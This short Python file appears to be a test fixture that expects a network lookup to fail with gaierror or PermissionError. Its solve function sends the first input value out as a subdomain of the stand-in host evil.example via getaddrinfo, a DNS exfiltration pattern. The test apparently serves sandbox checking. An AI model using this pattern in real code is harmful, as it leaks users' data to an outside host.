# want: RTE gaierror|PermissionError
import socket

def solve(values):
    socket.getaddrinfo(f"{values[0]}.evil.example", 80)
